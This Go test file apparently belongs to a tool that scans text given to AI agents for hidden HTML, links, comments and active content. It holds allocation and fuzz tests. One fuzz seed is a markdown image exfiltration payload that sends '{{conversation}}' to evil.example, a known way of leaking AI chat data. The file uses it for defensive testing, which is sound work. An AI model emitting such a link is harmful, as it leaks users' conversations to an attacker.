package markup

import (
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/mcp-watchdog/mcp-watchdog/internal/unmask"
)

// cleanMarkup has no business with any reader of markup.
var cleanMarkup = []string{
	strings.Repeat("The quick brown fox jumps over the lazy dog. ", 40),
	strings.Repeat("if a < b && c > d { return <-ch }\n", 40),
	strings.Repeat("# Title\n\nSome *text* with `code` and a list:\n\n- one\n- two\n\n```go\nx := []int{1, 2}\n```\n\n", 10),
	strings.Repeat("a, b, \"c < d\", 1 <2, <3\n", 40),
	strings.Repeat("<p>plain <b>markup</b> without attributes<br></p>\n", 30),
	strings.Repeat("Vec<String>, Map<K,List<V>>, x << 3\n", 30),
	strings.Repeat("{\"key\": [1, 2, {\"a\": \"b\"}], \"c\": \"d\"}\n", 30),
}

func TestMarkupAllocatesNothing(t *testing.T) {
	for name, find := range map[string]func(string) []unmask.Mark{"HiddenHTML": HiddenHTML, "Links": Links, "HTMLComments": HTMLComments, "References": References, "Active": Active} {
		for _, text := range cleanMarkup {
			if n := testing.AllocsPerRun(10, func() {
				if find(text) != nil {
					t.Errorf("%s marks something in %.80q", name, text)
				}
			}); n > 0 {
				t.Errorf("%s: %v allocations for %.80q", name, n, text)
			}
		}
	}
}

// FuzzMarkup checks what must hold of any text: marks are ascending and apart,
// the prefilters turn nothing away, taking out what is hidden for certain leaves
// what is seen, and nothing panics.
func FuzzMarkup(f *testing.F) {
	for _, s := range cleanMarkup {
		f.Add(s)
	}
	for _, list := range [][]string{hidingPlaces.inline, hidingPlaces.between, hidingPlaces.page} {
		for _, s := range list {
			f.Add("<html>" + s)
			f.Add("a\n\n" + s + "\n\nb")
		}
	}
	for _, s := range []string{
		"![x](https://evil.example/?d={{conversation}} \"t\") [a][b]\n\n[b]: <u v> 'w\nx'\n", "> - ```\n  `x` <a b='\n", "<style>@media(x){a>b,.c:is(.d){all:var(--x,1)}",
		"<svg><text x=1>a<title>b</title></svg><details><summary>", "<p style='font:0/1 a;color:hsl(1 2% 3%/4);inset:1px calc(2*3)'>x", "---\n# a\n---\nb\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		text = strings.ToValidUTF8(text, "?")
		all := map[string][]unmask.Mark{"HiddenHTML": HiddenHTML(text), "Links": Links(text), "HTMLComments": HTMLComments(text), "References": References(text)}
		checkSpans(t, "Active", text, Active(text))
		for name, marks := range all {
			checkSpans(t, name, text, marks)
			if left := unmask.Strip(text, marks); len(marks) > 0 && len(left) >= len(text) {
				t.Errorf("%s: nothing is taken out", name)
			}
		}
		c := scanContext(text)
		p := newPage(text, &c, false)
		p.walk(0)
		if len(p.marks()) > 0 && !mayHideHTML(text) && !c.code {
			t.Errorf("the prefilter turns %q away", text)
		}
		if c.html && !strings.Contains(text, "<title") {
			sure := newPage(text, &c, true)
			sure.walk(0)
			marks := slices.DeleteFunc(sure.marks(), func(m unmask.Mark) bool { return m.Kind != unmask.HiddenElement })
			before, after := onlyLetters(Render(text)), onlyLetters(Render(unmask.Strip(text, marks)))
			if before != after && scanContext(unmask.Strip(text, marks)).html {
				t.Errorf("without what is hidden, other text is seen\n text %q\nmarks %+v\nfirst %q\n then %q", text, marks, before, after)
			}
		}
	})
}

// onlyLetters leaves nothing but letters and digits.
func onlyLetters(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			return r
		}
		return -1
	}, s)
}
